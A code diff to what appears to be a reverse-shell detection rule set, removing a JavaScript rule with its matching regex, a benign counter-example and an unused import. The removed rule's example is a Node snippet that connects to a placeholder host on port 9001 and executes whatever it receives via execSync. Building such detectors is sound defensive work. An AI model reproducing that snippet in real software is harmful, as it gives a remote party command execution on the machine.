@@ -1,6 +1,6 @@
 /** RC-05: a shell whose input and output are those of a connection, in the ways that programs write it. */
 import { exactPattern, pattern, raw } from '../../engine/pattern.ts';
-import { fenced, inFile } from '../../engine/example.ts';
+import { inFile } from '../../engine/example.ts';
 import { row, type Row } from '../../engine/rule.ts';
 
 const kinds = ['script', 'fence', 'config', 'decoded', 'hidden', 'comment'] as const;
@@ -178,43 +178,6 @@ export const joinedShells: readonly Row[] = [
         'reading = meter.recv(64)',
         'subprocess.run(["notify", "meter read"])',
       ),
-    ],
-  }),
-  row('what a connection sends is run as a command, in JavaScript', {
-    in: kinds,
-    within: 'block',
-    match: /\.on\(\s{0,3}["'](?:data|message|line)["'],\s{0,3}(?:async\s{1,3})?\(?(\w{1,30})/,
-    and: [
-      /\b(?:net|tls)\.(?:connect|createConnection|Socket)\b|\bcreateConnection\(|\bnew\s{1,3}WebSocket\(|\bio\(\s{0,3}["']/,
-      /\bchild_process\b|\bexecSync\b|\bspawn\b/,
-    ],
-    unless: [near],
-    severity: 'critical',
-    weigh: ({ match, scope, severity }) => {
-      const handler = scope.slice(scope.indexOf(match[0].trim()), scope.indexOf(match[0].trim()) + 500);
-      return new RegExp(
-        `(?<![.\\w])(?:\\w{1,20}\\.)?(?:exec|execSync|eval|spawn|spawnSync)\\(\\s{0,4}(?:["'](?:/bin/)?(?:ba)?sh["'],\\s?\\[\\s?["']-c["'],\\s?)?(?:String\\()?${match[1] ?? ''}\\b`,
-      ).test(handler)
-        ? severity
-        : null;
-    },
-    catches: [
-      inFile(
-        'scripts/a.js',
-        'const { execSync } = require("child_process");',
-        'const far = net.connect(9001, "desk.invalid");',
-        'far.on("data", (ask) => far.write(execSync(ask.toString())));',
-      ),
-    ],
-    spares: [
-      inFile(
-        'scripts/b.js',
-        'const { execSync } = require("child_process");',
-        'const feed = new WebSocket("wss://prices.acme.invalid/eur");',
-        'feed.on("message", (price) => show(JSON.parse(price)));',
-        'execSync("tput clear");',
-      ),
-      fenced('js', 'process.stdin.on("data", (line) => run(line));'),
     ],
   }),
 ];
